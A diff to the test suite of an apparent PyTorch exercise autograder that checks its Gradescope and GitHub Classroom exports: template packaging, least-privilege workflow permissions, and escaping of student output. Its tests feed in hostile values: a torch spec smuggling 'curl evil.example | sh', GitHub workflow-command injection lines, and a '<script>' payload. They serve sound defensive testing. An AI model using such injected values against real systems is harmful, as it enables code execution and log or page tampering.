@@ -108,6 +108,30 @@ def test_setup_refuses_torch_specs_a_shell_would_act_on():
         export.render_setup_sh(torch_spec="torch; curl evil.example | sh")
 
 
+def test_scripts_and_workflow_come_from_packaged_template_files():
+    """setup.sh, run_autograder, the workflow and its grading step are jinja2 templates under
+    checker/templates/, and pyproject's package-data ships every file there."""
+    import fnmatch
+    import tomllib
+    templates = {p.name for p in export.TEMPLATES.iterdir() if p.is_file()}
+    assert {"gradescope_setup.sh.j2", "gradescope_run_autograder.sh.j2", "classroom.yml.j2",
+            "classroom_grade.sh.j2"} <= templates
+    pyproject = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
+    globs = pyproject["tool"]["setuptools"]["package-data"]["checker"]
+    for name in templates:
+        assert any(fnmatch.fnmatch(f"templates/{name}", g) for g in globs), (name, globs)
+    rendered = [export.render_setup_sh(), export.render_run_autograder(max_score=3),
+                export.render_classroom_workflow(SPEC), export.classroom_grade_script()]
+    for text in rendered:
+        assert not any(mark in text for mark in ("<@", "@>", "<%", "%>")), text
+
+
+def test_a_template_value_left_out_is_an_error():
+    import jinja2
+    with pytest.raises(jinja2.UndefinedError):
+        export.render_template("gradescope_run_autograder.sh.j2", source_dir="x")
+
+
 def _copy_tree(root: Path) -> Path:
     for name, path in export.source_files(ROOT):
         dest = root / name
@@ -241,6 +265,13 @@ def test_run_autograder_grades_the_submission(graded):
     assert data["score"] == len(manifest.get(GATHER).graded)
     assert "conftest.py" in data["output"]                    # refused, and the learner is told
     assert all(t["visibility"] == "visible" for t in data["tests"])
+    # Students read every `output`: no seed, versions or isolation there (those are in
+    # extra_data), and no `kata` command, which they do not have on Gradescope.
+    for text in [data["output"]] + [t["output"] for t in data["tests"]]:
+        for internal in ("seed", "isolation", "torchkata", "0.1.0", "`kata ", "kata hint"):
+            assert internal not in text, (internal, text)
+    assert data["extra_data"]["seed"] == 7
+    assert data["extra_data"]["isolation"]["level"] in ("namespaces+uid", "uid", "rlimits-only")
 
 
 def test_the_bundled_tree_is_what_grades(graded):
@@ -389,10 +420,18 @@ def test_workflow_has_what_classroom_and_its_reporter_need(tmp_path):
     assert "name: Autograding Tests" in lines and "  run-autograding-tests:" in lines
     on = lines.index('"on":')
     assert lines[on + 1:on + 4] == ["  - push", "  - workflow_dispatch", "  - repository_dispatch"]
+    # Least privilege: the token only checks out the repository, and is not left in .git/config
+    # where code running during grading could read it.
     perms = lines.index("permissions:")
-    assert lines[perms + 1:perms + 4] == ["  checks: write", "  actions: read", "  contents: read"]
+    assert lines[perms + 1:perms + 3] == ["  contents: read", "jobs:"]
+    assert not any(l.lstrip().startswith(("checks:", "actions:")) for l in lines)
     assert "    if: github.actor != 'github-classroom[bot]'" in lines
-    assert "        uses: actions/checkout@v4" in lines
+    checkout = lines.index("        uses: actions/checkout@v7")
+    assert lines[checkout + 1] == "        with:"
+    assert lines[checkout + 2].startswith("          persist-credentials: false")
+    # Current majors: checkout and setup-python run on Node 24, not the deprecated Node 20.
+    assert "        uses: actions/setup-python@v7" in lines
+    assert all(f"uses: {action}" in text for action in export.CLASSROOM_ACTIONS.values())
     assert f'          python-version: "{export.CLASSROOM_PYTHON}"' in lines and export.CLASSROOM_PYTHON == "3.11"
     torch_line = lines.index(f"          python -m pip install torch --index-url {export.TORCH_CPU_INDEX}")
     install_line = next(i for i, l in enumerate(lines) if '-e "$TORCHKATA_INSTALL"' in l)
@@ -401,7 +440,7 @@ def test_workflow_has_what_classroom_and_its_reporter_need(tmp_path):
     # The grading step's id names the runner; the reporter reads <ID upper-cased>_RESULTS.
     step = lines.index(f"        id: {export.CLASSROOM_RUNNER_ID}")
     assert lines[step + 1] == "        run: |"
-    expected_script = export.CLASSROOM_GRADE_SCRIPT.splitlines()
+    expected_script = export.classroom_grade_script().splitlines()
     script = [line.removeprefix("          ") for line in lines[step + 2:step + 2 + len(expected_script)]]
     assert script == expected_script
     assert any("kata grade" in l and "--format exercism" in l for l in script)
@@ -465,7 +504,7 @@ def test_exercism_results_become_the_reporters_shape():
         assert set(entry) == {"name", "status", "score", "message", "test_code", "filename", "line_no"}
         assert entry["status"] == expected_status[test.name]
         assert entry["filename"] == f"exercises/{test.kata_id}.py"
-        assert entry["test_code"] == f"kata check {test.kata_id}"
+        assert entry["test_code"] == f"kata check {test.kata_id} --dir exercises"
         assert isinstance(entry["line_no"], int)
         if test.status.passed:
             assert entry["message"] == ""
@@ -523,24 +562,29 @@ def test_main_reports_an_error_when_grading_left_nothing_usable(tmp_path, conten
         assert "exit status 2" in test["message"]
 
 
-def test_the_workflow_grading_step_feeds_the_reporter(tmp_path):
+def test_the_workflow_grading_step_feeds_the_reporter_and_tells_the_student_why(tmp_path):
     """The workflow's own grading script, run in a directory laid out like a student's repo."""
     repo = tmp_path / "repo"
     (repo / "exercises" / "04_indexing").mkdir(parents=True)
     shutil.copy(ROOT / "solutions" / f"{GATHER}.py", repo / "exercises" / f"{GATHER}.py")
     (repo / "exercises" / "08_layers").mkdir()
     (repo / "exercises" / f"{LAYERNORM}.py").write_text(BROKEN_SOURCE)
-    output = tmp_path / "github_output"
+    output, summary = tmp_path / "github_output", tmp_path / "step_summary"
     output.write_text("")
-    env = {**os.environ, "GITHUB_OUTPUT": str(output), "RUNNER_TEMP": str(tmp_path / "runner"),
-           "TORCHKATA_EXERCISES": "exercises", "TORCHKATA_SEED": "7",
+    env = {**os.environ, "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(summary),
+           "RUNNER_TEMP": str(tmp_path / "runner"), "TORCHKATA_EXERCISES": "exercises", "TORCHKATA_SEED": "7",
+           "TORCHKATA_INSTALL": SPEC,
            # The sandbox is exercised by the Gradescope run above; this test is about the hand-off.
            "TORCHKATA_GRADE_ARGS": f"{kata_args(GATHER, LAYERNORM)} --isolation none",
-           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
-    env.pop("PYTHONPATH", None)
-    proc = subprocess.run(["bash", "-e", "-o", "pipefail", "-c", export.CLASSROOM_GRADE_SCRIPT], cwd=repo, env=env,
-                          capture_output=True, text=True, timeout=300)
+           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
+           # `kata` is the venv's entry point; this checkout, not wherever the install points, grades.
+           "PYTHONPATH": str(ROOT)}
+    proc = subprocess.run(["bash", "-e", "-o", "pipefail", "-x", "-c", export.classroom_grade_script()], cwd=repo,
+                          env=env, capture_output=True, text=True, timeout=300)
     assert proc.returncode == 0, proc.stdout + proc.stderr
+    # Exercism's interface: `kata grade` exits 0 although tests failed, so the hand-off does not
+    # mistake a failing grade for a broken grader.
+    assert "--grade-status 0" in proc.stderr
     result = read_output(output)
     assert result["status"] == "fail"
     assert result["max_score"] == len(manifest.get(GATHER).graded) + len(manifest.get(LAYERNORM).graded)
@@ -549,3 +593,74 @@ def test_the_workflow_grading_step_feeds_the_reporter(tmp_path):
             assert test["status"] == "pass" and test["score"] == 1, test
         else:
             assert test["status"] == "error" and test["score"] == 0 and "line 3" in test["message"], test
+    # The job log and the run's summary page both say why each test failed.
+    failing = [t for t in result["tests"] if t["status"] != "pass"]
+    markdown = summary.read_text(encoding="utf-8")
+    for test in failing:
+        assert f"::error file=exercises/{LAYERNORM}.py,title={test['name'].replace(':', '%3A')} error::" in proc.stdout
+        assert f"✗ {test['name']}: error" in proc.stdout
+        assert f"<code>{test['name']}</code>: error" in markdown
+    assert "line 3" in proc.stdout and "line 3" in markdown
+    assert f"python -m pip install -e {SPEC}" in markdown
+
+    # The command suggested to the student re-runs the kata on the student's own files.
+    for test in (failing[0], next(t for t in result["tests"] if t["status"] == "pass")):
+        assert test["test_code"].startswith("kata check ")
+        check = subprocess.run(["bash", "-c", test["test_code"]], cwd=repo, env=env, capture_output=True,
+                               text=True, timeout=300)
+        if test["status"] == "pass":
+            assert check.returncode == 0 and f"✓ {GATHER}" in check.stdout, check.stdout + check.stderr
+        else:
+            assert check.returncode == 1 and "line 3" in check.stdout, check.stdout + check.stderr
+
+
+def reporter_result(message: str, name: str = f"{GATHER}::gather_2d") -> dict:
+    report = GradeReport(katas=[KataResult(GATHER, "gather", tests=[
+        Result(GATHER, "pick_per_row", Status.PASSED, score=1.0),
+        Result(GATHER, name.split("::")[1], Status.FAILED, message)])])
+    return classroom.from_exercism(emitters.to_exercism(report))
+
+
+def test_the_job_log_never_runs_workflow_commands_from_learner_text():
+    hostile = "wrong values at [0, 1]\n::add-mask::secret\n::error::fake\n%0A 100% sure, a:b"
+    log = classroom.job_log(reporter_result(hostile), token="t0ken")
+    lines = log.splitlines()
+    assert lines[0] == "torchkata: 1 of 2 points · status fail"
+    # The annotation carries the whole message, escaped so it stays one command.
+    [annotation] = [line for line in lines if line.startswith("::error ")]
+    assert annotation == (f"::error file=exercises/{GATHER}.py,title={GATHER}%3A%3Agather_2d fail::"
+                          "failed: wrong values at [0, 1]%0A::add-mask::secret%0A::error::fake%0A%250A 100%25 sure, a:b")
+    # Everything else that came from the learner sits between stop-commands markers.
+    start, end = lines.index("::stop-commands::t0ken"), lines.index("::t0ken::")
+    assert start < lines.index("    ::add-mask::secret") < end and end == len(lines) - 1
+    assert f"    re-run it in your repository: kata check {GATHER} --dir exercises" in lines
+    assert classroom.job_log(reporter_result("x")).count("::stop-commands::") == 1   # a fresh token
+
+
+def test_the_step_summary_shows_each_failure_as_text_not_markup():
+    hostile = "tensor([1., 2.])\n```\n<script>alert(1)</script> | **bold**"
+    markdown = classroom.step_summary(reporter_result(hostile), install=SPEC)
+    assert markdown.startswith("## torchkata: 1 of 2 points\n")
+    assert f"| ✅ | <code>{GATHER}::pick_per_row</code> | pass |" in markdown
+    assert f"| ❌ | <code>{GATHER}::gather_2d</code> | fail |" in markdown
+    # The message sits in a fence longer than any backtick run inside it, so it cannot close it.
+    fence_open = markdown.index("````text\n")
+    body_end = markdown.index("\n````\n", fence_open)
+    assert "<script>" in markdown[fence_open:body_end] and markdown.count("<script>") == 1
+    assert f"Re-run it in your repository: <code>kata check {GATHER} --dir exercises</code>" in markdown
+    odd = classroom.step_summary(reporter_result("x", name=f"{GATHER}::a|<b>"))
+    assert "<code>04_indexing/gather::a&#124;&lt;b&gt;</code>" in odd
+    assert "Why tests did not pass" not in classroom.step_summary(
+        classroom.from_exercism(emitters.to_exercism(GradeReport(katas=[KataResult(GATHER, "gather", tests=[
+            Result(GATHER, "pick_per_row", Status.PASSED, score=1.0)])]))))
+
+
+def test_main_appends_the_step_summary(tmp_path):
+    results = tmp_path / "results.json"
+    results.write_text(emitters.render(sample_report(), "exercism"))
+    summary = tmp_path / "summary.md"
+    summary.write_text("earlier step\n")
+    classroom.main([str(results), "--github-output", str(tmp_path / "out"), "--step-summary", str(summary)])
+    text = summary.read_text(encoding="utf-8")
+    assert text.startswith("earlier step\n## torchkata: 1 of 4 points")
+    assert "wrong values at [0, 1]" in text and "debug print" in text
